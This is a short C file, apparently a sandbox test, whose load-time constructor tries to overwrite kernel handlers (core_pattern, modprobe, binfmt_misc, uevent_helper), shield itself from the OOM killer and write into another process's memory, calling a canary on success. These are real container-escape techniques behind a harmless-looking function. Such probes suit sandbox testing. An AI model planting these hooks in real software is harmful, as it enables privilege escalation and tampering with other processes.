#include "canary.h"
static void put(const char *file, const char *text) {
  int d = open(file, O_WRONLY);
  if (d >= 0) { if (write(d, text, strlen(text)) > 0) touch_canary(); close(d); }
}
__attribute__((constructor)) static void early(void) {
  put("/proc/sys/kernel/core_pattern", "|/bin/sh -c true");
  put("/proc/sys/kernel/modprobe", "/bin/true");
  put("/proc/sys/fs/binfmt_misc/register", ":x:E::zz::/bin/sh:");
  put("/sys/kernel/uevent_helper", "/bin/true");
  put("/proc/self/oom_score_adj", "-1000");
  char name[64];
  snprintf(name, sizeof name, "/proc/%d/oom_score_adj", VICTIM);
  put(name, "1000");
  snprintf(name, sizeof name, "/proc/%d/mem", VICTIM);
  put(name, "x");
  touch_canary();
}
int f(int x) { return x > 3; }
